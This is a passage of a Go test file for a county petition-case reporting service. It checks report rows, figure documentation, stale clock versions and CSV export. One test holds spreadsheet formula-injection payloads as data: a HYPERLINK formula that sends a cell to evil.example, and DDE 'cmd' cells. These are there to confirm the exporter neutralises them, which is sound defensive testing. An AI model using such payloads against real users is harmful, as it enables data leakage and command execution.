		for _, r := range rows {
			if len(r) > 0 && r[0] == label {
				return r
			}
		}
		return nil
	}
	// February: A and B; a year earlier D; January E.
	for _, want := range [][]string{
		{"信访总量（批次）", "2", "1", "1"},
		{"信访人次", "7", "2", "1"},
		{"按期办结率", "50.0%", "—", "—"},
		{"满意率", "50.0%", "—", "—"},
		{"来信", "1", "6"},
		{"张三", "嘉善县信访局", "0", "1"},
	} {
		for name, rows := range map[string][][]string{"xlsx": xrows, "csv": crows} {
			if got := find(rows, want[0]); !slices.Equal(got, want) {
				t.Errorf("%s row %s: got %q, want %q", name, want[0], got, want)
			}
		}
	}
	if _, err := f.s.ExportMonthlyReport(ctx, &reportingv1.ExportMonthlyReportRequest{County: "counties/330421", Month: "2026-2"}); rpcerr.Code(err) != codes.InvalidArgument {
		t.Errorf("bad month: %v", err)
	}
}

// TestDefinitionsDocumented fails when a figure lacks its definition in
// docs/reporting.md or its column in the store.
func TestDefinitionsDocumented(t *testing.T) {
	doc, err := os.ReadFile("../../../../docs/reporting.md")
	if err != nil {
		t.Fatal(err)
	}
	fields := (&reportingv1.Figures{}).ProtoReflect().Descriptor().Fields()
	for i := range fields.Len() {
		name := string(fields.Get(i).Name())
		if !bytes.Contains(doc, []byte("`"+name+"`")) {
			t.Errorf("docs/reporting.md does not define `%s`", name)
		}
		if !strings.HasSuffix(name, "_rate") && !slices.Contains(store.Measures, name) {
			t.Errorf("Figures.%s is not a measure of the store", name)
		}
	}
}

// TestClockVersions: the feed may deliver an older state of a clock after
// a newer one (it is ordered by transaction id, not commit order); the
// read model keeps the newest version, and the stale state neither lists
// the clock as overdue nor makes the case late.
func TestClockVersions(t *testing.T) {
	t.Parallel()
	for _, batch := range []int{0, 3} { // one event per transaction; all in one
		clockVersions(t, batch)
	}
}

func clockVersions(t *testing.T, batch int) {
	f := &fixture{t: t, seq: map[string]int64{}, batch: batch, s: &Server{
		Store: &store.Store{Pool: testDB.NewDatabase(t)}, Dir: directory.Demo(),
		Now: func() time.Time { return china(2026, 3, 16, 10) },
	}}
	const n = "330421-2026-000001"
	f.register(n, dayun, intakev1.Channel_CHANNEL_VISIT, intakev1.CaseClass_CASE_CLASS_CLAIM, "", 1, false, china(2026, 3, 2, 8))
	stopped := china(2026, 3, 4, 9)
	f.clock(n, assignmentv1.ClockKind_CLOCK_KIND_ROUTING, bureau, china(2026, 3, 6, 23), &stopped, false) // version 3: stopped in time
	f.clock(n, assignmentv1.ClockKind_CLOCK_KIND_ROUTING, bureau, china(2026, 3, 6, 23), nil, true)       // version 2: overdue, delivered late
	f.evs[1].GetClockChanged().Version, f.evs[2].GetClockChanged().Version = 3, 2
	f.apply(f.evs)
	r, err := f.s.GetReport(authtest.As(t, "demo-bureau"), &reportingv1.GetReportRequest{County: "counties/-", StartMonth: "2026-03", EndMonth: "2026-03"})
	if err != nil {
		t.Fatal(err)
	}
	if got := r.GetReport(); got.GetFigures().GetRoutingOnTime() != 1 || got.GetFigures().GetRoutingLate() != 0 || got.GetOverdueNow() != 0 {
		t.Errorf("batch %d: after a stale clock state: %v", batch, got)
	}
}

// TestCSVNeutralisesFormulas: a cell a spreadsheet would run as a formula
// is written as text; numbers, negative ones too, stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	rows := [][]string{
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tx", "\rx"},
		{"-3", "+4", "97.2", "张伟", "", "a=b"},
	}
	b, err := CSV(rows)
	if err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, cell := range got[0] {
		if !strings.HasPrefix(cell, "'") || cell[1:] != rows[0][i] {
			t.Errorf("formula cell %q written as %q", rows[0][i], cell)
		}
	}
	if diff := cmp.Diff(rows[1], got[1]); diff != "" {
		t.Errorf("plain cells changed (-want +got):\n%s", diff)
	}
}
